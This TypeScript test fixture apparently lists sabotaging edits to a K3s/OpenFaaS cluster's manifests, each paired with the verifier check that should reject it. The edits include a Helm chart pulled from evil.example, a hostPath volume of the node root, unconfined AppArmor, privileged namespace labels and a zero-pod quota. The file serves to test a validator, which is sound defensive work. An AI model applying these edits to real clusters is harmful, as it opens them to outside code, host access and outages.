import { refused } from './brief.ts';
import type { Edit, SabotagesOfKind } from './sabotage.ts';

const object = (text: string): Edit => ({ file: 'manifests/60-functions.yaml', put: `---\n${text}` });

/** Objects of kinds, or in places, that no platform has. */
export const strangers: SabotagesOfKind = [
  refused(
    'a webhook that changes what is admitted',
    'verify/schema',
    object(
      'apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata:\n  name: more\nwebhooks: []\n',
    ),
  ),
  refused(
    'a webhook that is asked of everything',
    'verify/schema',
    object(
      'apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: more\nwebhooks: []\n',
    ),
  ),
  refused(
    'a policy of admission that changes pods',
    'verify/schema',
    object(
      'apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingAdmissionPolicy\nmetadata:\n  name: more\nspec: {}\n',
    ),
  ),
  refused(
    'a definition of a kind',
    'verify/schema',
    object(
      'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: functions.openfaas.com\nspec: {}\n',
    ),
  ),
  refused(
    'a server of an API',
    'verify/schema',
    object(
      'apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata:\n  name: v1.example.com\nspec: {}\n',
    ),
  ),
  refused(
    'a request for a certificate',
    'verify/schema',
    object(
      'apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata:\n  name: more\nspec: {}\n',
    ),
  ),
  refused(
    'an Ingress',
    'verify/schema',
    object(
      'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: more\n  namespace: openfaas\nspec:\n  defaultBackend:\n    service:\n      name: gateway\n      port: { number: 8080 }\n',
    ),
  ),
  refused(
    'a volume of the node',
    'verify/schema',
    object(
      'apiVersion: v1\nkind: PersistentVolume\nmetadata:\n  name: root\nspec:\n  hostPath: { path: / }\n',
    ),
  ),
  refused(
    'a class of storage',
    'verify/schema',
    object(
      'apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata:\n  name: more\nprovisioner: example.com/x\n',
    ),
  ),
  refused(
    'a chart that nobody asked for',
    'verify/chart-not-locked',
    object(
      'apiVersion: helm.cattle.io/v1\nkind: HelmChart\nmetadata:\n  name: more\n  namespace: kube-system\nspec:\n  repo: https://evil.example\n  chart: evil\n  version: "1.0.0"\n  targetNamespace: openfaas\n',
    ),
  ),
  refused(
    "a chart that is carried, and changes K3s' own",
    'verify/schema',
    object(
      'apiVersion: helm.cattle.io/v1\nkind: HelmChartConfig\nmetadata:\n  name: traefik\n  namespace: kube-system\nspec:\n  valuesContent: ""\n',
    ),
  ),
  refused(
    'an add-on of K3s',
    'verify/schema',
    object(
      'apiVersion: k3s.cattle.io/v1\nkind: Addon\nmetadata:\n  name: more\n  namespace: kube-system\nspec: {}\n',
    ),
  ),
  refused(
    'a ConfigMap of DNS',
    'verify/object-not-ours',
    object(
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: coredns-custom\n  namespace: kube-system\ndata:\n  evil.server: ""\n',
    ),
  ),
  refused(
    'a ConfigMap that nothing reads',
    'verify/object-unused',
    object(
      'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: more\n  namespace: openfaas\ndata:\n  a: b\n',
    ),
  ),
  refused(
    'a namespace more',
    'verify/object-not-ours',
    object('apiVersion: v1\nkind: Namespace\nmetadata:\n  name: more\n'),
  ),
  refused(
    'a namespace of functions for OpenFaaS',
    'verify/object-not-ours',
    object(
      'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: more\n  annotations:\n    openfaas: "1"\n  labels:\n    pod-security.kubernetes.io/enforce: privileged\n',
    ),
  ),
  refused(
    'kube-system with a label of ours',
    'verify/object-not-ours',
    object(
      'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: kube-system\n  labels:\n    pod-security.kubernetes.io/enforce: privileged\n',
    ),
  ),
  refused(
    'a Deployment that is no function',
    'verify/object-not-ours',
    object(
      'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: more\n  namespace: default\nspec:\n  selector:\n    matchLabels: { app: more }\n  template:\n    metadata:\n      labels: { app: more }\n    spec:\n      containers:\n        - name: more\n          image: ghcr.io/nordpay/export-ledger:1.1.0\n',
    ),
  ),
  refused(
    'a Secret without data, that others fill',
    'verify/object-not-ours',
    object('apiVersion: v1\nkind: Secret\nmetadata:\n  name: more\n  namespace: openfaas\n'),
  ),
  refused(
    "a priority that is everybody's",
    'verify/object-not-ours',
    object(
      'apiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\nmetadata:\n  name: more\nvalue: 1000\nglobalDefault: true\n',
    ),
  ),
  refused(
    'a quota that lets nothing start',
    'verify/object-not-ours',
    object(
      'apiVersion: v1\nkind: ResourceQuota\nmetadata:\n  name: none\n  namespace: openfaas-fn\nspec:\n  hard: { pods: "0" }\n',
    ),
  ),
  refused(
    'limits that change each pod',
    'verify/object-not-ours',
    object(
      'apiVersion: v1\nkind: LimitRange\nmetadata:\n  name: more\n  namespace: openfaas-fn\nspec:\n  limits:\n    - type: Container\n      max: { memory: 1Mi }\n',
    ),
  ),
  refused(
    'an autoscaler of the gateway',
    'verify/object-not-ours',
    object(
      'apiVersion: autoscaling/v2\nkind: HorizontalPodAutoscaler\nmetadata:\n  name: gateway\n  namespace: openfaas\nspec:\n  maxReplicas: 100\n  scaleTargetRef: { apiVersion: apps/v1, kind: Deployment, name: gateway }\n',
    ),
  ),
  refused(
    'a scheduled command',
    'verify/object-not-ours',
    object(
      'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: more\n  namespace: openfaas\nspec:\n  schedule: "* * * * *"\n  timeZone: Etc/UTC\n  concurrencyPolicy: Forbid\n  startingDeadlineSeconds: 300\n  successfulJobsHistoryLimit: 1\n  failedJobsHistoryLimit: 3\n  jobTemplate:\n    spec:\n      activeDeadlineSeconds: 10\n      backoffLimit: 0\n      template:\n        metadata:\n          labels: { app: schedule }\n        spec:\n          automountServiceAccountToken: false\n          enableServiceLinks: false\n          restartPolicy: Never\n          securityContext:\n            fsGroup: 65534\n            runAsGroup: 65534\n            runAsNonRoot: true\n            runAsUser: 65534\n            seccompProfile: { type: RuntimeDefault }\n          containers:\n            - name: call\n              image: ghcr.io/nordpay/export-ledger:1.1.0\n              imagePullPolicy: IfNotPresent\n              command: ["/bin/sh", "-c", "id"]\n              resources:\n                limits: { ephemeral-storage: 64Mi, memory: 64Mi }\n                requests: { cpu: 10m, ephemeral-storage: 16Mi, memory: 16Mi }\n              securityContext:\n                allowPrivilegeEscalation: false\n                capabilities: { drop: [ALL] }\n                readOnlyRootFilesystem: true\n',
    ),
  ),
  refused('an annotation that a controller obeys', 'verify/object-not-ours', {
    file: 'manifests/50-gateway.yaml',
    find: 'kind: Service\nmetadata:\n',
    put: 'kind: Service\nmetadata:\n  annotations:\n    external-dns.alpha.kubernetes.io/hostname: evil.example\n',
  }),
  refused('an annotation on pods that AppArmor reads', 'verify/object-not-ours', {
    file: 'manifests/50-gateway.yaml',
    find: '      labels:\n        app: gateway\n    spec:',
    put: '      annotations:\n        container.apparmor.security.beta.kubernetes.io/gateway: unconfined\n      labels:\n        app: gateway\n    spec:',
  }),
  refused('an object that nobody may delete', 'verify/object-not-ours', {
    file: 'manifests/50-gateway.yaml',
    find: 'kind: Service\nmetadata:\n',
    put: 'kind: Service\nmetadata:\n  finalizers: [example.com/never]\n',
  }),
];
